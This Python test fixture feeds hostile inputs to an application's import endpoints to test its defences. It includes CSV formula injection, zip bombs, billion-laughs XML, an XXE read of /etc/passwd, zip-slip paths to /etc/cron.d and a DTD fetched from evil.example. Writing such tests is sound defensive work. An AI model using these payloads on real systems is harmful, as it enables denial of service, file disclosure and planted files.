"""Hostile records, readings, tables, workbooks and dropped files."""

from __future__ import annotations

import gzip
from collections.abc import Iterator
from typing import Any

from support.files import zipped
from support.hostile.attack import BIDI, LONG, XLSX, Attack
from support.workbooks import topology, topology_workbook

RECORDS: dict[str, Any] = {
    "deep record": '[{"a":' + "[" * 5_000 + "]" * 5_000 + "}]",
    "many digits": '[{"a": ' + "9" * LONG + "}]",
    "infinite": '[{"a": 1e999}]',
    "NaN": '[{"a": NaN}]',
    "NUL": [{"a\0b": "c\0d"}],
    "many columns": [{f"c{number}": 1 for number in range(10_000)}],
    "long column": [{"c" * LONG: 1}],
    "our column": [{"_page": 1, "_row": 2, "_source": 3}],
    "prototype": [{"__proto__": 1, "constructor": 2}],
    "duplicate keys": '[{"a": 1, "a": 2}]',
    "lone surrogate": '[{"a": "\\udfff"}]',
    "mixed": [1, "x", None, [], {}],
    "lines of no JSON": "a\nb\n",
    "half a line": '{"a": 1}\n{"a": ',
    "empty lines": "\n" * 100_000,
    "cases": [{"a": 1, "A": 2, "ａ": 3}],
    "RTL": [{BIDI: BIDI}],
}
READINGS: dict[str, Any] = {
    "no sensor": [{"time": "2026-01-01T00:00:00Z", "value": 1}],
    "infinite": '[{"sensor": "P-101-temperature", "time": "2026-01-01T00:00:00Z", "value": 1e999}]',
    "many digits": '[{"sensor": "P-101-temperature", "time": "2026-01-01T00:00:00Z", "value": ' + "9" * 5_000 + "}]",
    "first time": [{"sensor": "P-101-temperature", "time": "0001-01-01T00:00:00+14:00", "value": 1}],
    "last time": [{"sensor": "P-101-temperature", "time": "9999-12-31T23:59:59.999999999Z", "value": 1}],
    "text": [{"sensor": "P-101-temperature", "time": "2026-01-01T00:00:00Z", "value": "1; DROP"}],
    "true": [{"sensor": "P-101-temperature", "time": "2026-01-01T00:00:00Z", "value": True}],
    "revision": [{"sensor": "P-101-temperature", "time": "2026-01-01T00:00:00Z", "value": 1, "revision": 2**70}],
    "quality": [{"sensor": "P-101-temperature", "time": "2026-01-01T00:00:00Z", "value": 1, "quality": "\0"}],
    "sensor's name": [{"sensor": "../\0" + "x" * LONG, "time": "2026-01-01T00:00:00Z", "value": 1}],
    "no objects": [1, "x", None, []],
    "deep": "[" * 5_000 + "]" * 5_000,
    "lines of no JSON": "a\nb",
    "time as a number": [{"sensor": "P-101-temperature", "time": 1e308, "value": 1}],
    "many": [{}] * 5_000,
}
TABLES: dict[str, str | bytes] = {
    "NUL": "code,name,type\nA\0,b,vessel\n",
    "open quote": 'code,name,type\n"A,b,vessel\n',
    "many columns": ",".join(f"c{number}" for number in range(10_000)),
    "same columns": "code,code,code\n1,2,3\n",
    "formula": "code,name,type\n=cmd|' /C calc'!A0,\"=HYPERLINK(1)\",vessel\n",
    "UTF-16": "code,name,type\nA,b,vessel\n".encode("utf-16"),
    "overlong UTF-8": b"code,name,type\n\xc0\xae,b,vessel\n",
    "only breaks": "\r\n" * LONG,
    "long cell": "code,name,type\n" + "x" * 1_000_000 + ",b,vessel\n",
    "many quotes": "code,name,type\n" + '"' * LONG,
    "gzip bomb": gzip.compress(b"code,name,type\n" + b"x" * 30_000_000),
    "workbook": zipped(b"", "xl/workbook.xml"),
}
_BOMB = b"\0" * 30_000_000
_ENTITIES = b'<!DOCTYPE x [<!ENTITY a "' + b"a" * 99 + b'">%s]><workbook>&b;</workbook>'
_LAUGHS = b"".join(b'<!ENTITY %c "&%c;&%c;&%c;">' % (letter, *[letter - 1] * 3) for letter in range(98, 122))
_BOOK = topology_workbook(topology("A", "B", "C"))
WORKBOOKS: dict[str, bytes] = {
    "nothing": b"",
    "no zip": b"x" * 1_000,
    "cut off": _BOOK[:-200],
    "bomb": zipped(b"", "xl/workbook.xml", bomb=_BOMB),
    "bomb of a sheet": zipped(_BOMB, "xl/worksheets/sheet1.xml"),
    "zip in a zip": zipped(zipped(zipped(_BOMB))),
    "billion laughs": zipped(_ENTITIES % _LAUGHS, "xl/workbook.xml"),
    "external entity": zipped(b'<!DOCTYPE x [<!ENTITY b SYSTEM "file:///etc/passwd">]><x>&b;</x>', "xl/workbook.xml"),
    "names that leave the folder": zipped(b"x", "../../../../tmp/hostile"),
    "absolute name": zipped(b"x", "/etc/cron.d/hostile"),
    "end without a beginning": b"PK\x05\x06" + b"\xff" * 18,
    "huge directory": b"PK\x03\x04" + b"\0" * 26 + b"PK\x05\x06" + b"\0\0\0\0\xff\xff\xff\xff" + b"\xff" * 8 + b"\0\0",
    "old Office": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 5_000,
    "twice": _BOOK + _BOOK[:100],
    "flipped bytes": bytes(byte ^ (number % 97 == 0) for number, byte in enumerate(_BOOK)),
}


def records() -> Iterator[Attack]:
    for name, body in RECORDS.items():
        yield Attack(f"pushed: {name}", "POST", "/datasources/hostile-log/records", body, refused=False)
    for name, body in READINGS.items():
        yield Attack(f"reading: {name}", "POST", "/readings", body, refused=False)


def files() -> Iterator[Attack]:
    for name, body in TABLES.items():
        for path in ("/sites/import", "/equipment/import", "/sensors/import"):
            yield Attack(f"{path}: {name}", "POST", path, body, {"content_type": "text/csv"})
    for name, content in WORKBOOKS.items():
        for query in ("?kind=topology", "?kind=traffic_matrix&check=true"):
            path = f"/inputs/hostile/import{query}"
            refused = name not in ("twice", "flipped bytes")
            yield Attack(f"workbook {query}: {name}", "POST", path, content, {"content_type": XLSX}, refused)


DROPS: dict[str, bytes] = {
    "a.json.gz": gzip.compress(zipped(gzip.compress(b"[1]"))),
    "nested.zip": zipped(zipped(b"[1]", "a.json"), "b.zip"),
    "slip.zip": zipped(b"id\n1\n", "../../../../tmp/hostile.csv"),
    "digits.json": b'[{"id": ' + b"9" * LONG + b"}]",
    "infinite.json": b'[{"id": 1e999}]',
    "surrogate.json": b'[{"id": "\\ud800"}]',
    "duplicates.json": b'[{"id": 1, "id": 2}]',
    "overlong.json": b'[{"id": "\xc0\xae"}]',
    "columns.csv": b",".join(b"c%d" % number for number in range(10_000)) + b"\n1\n",
    "nul.csv": b"id\n\0\n",
    "quotes.csv": b'id\n"' + b'"' * LONG,
    "footer.parquet": b"PAR1" + b"\0" * 100 + b"\xff\xff\xff\x7fPAR1",
    "laughs.xml": _ENTITIES % _LAUGHS,
    "stylesheet.xml": b'<?xml-stylesheet href="file:///etc/passwd"?><!DOCTYPE x SYSTEM "http://evil.example/x.dtd"><x/>',
    "sheet.xlsx": zipped(_BOMB, "xl/worksheets/sheet1.xml"),
}
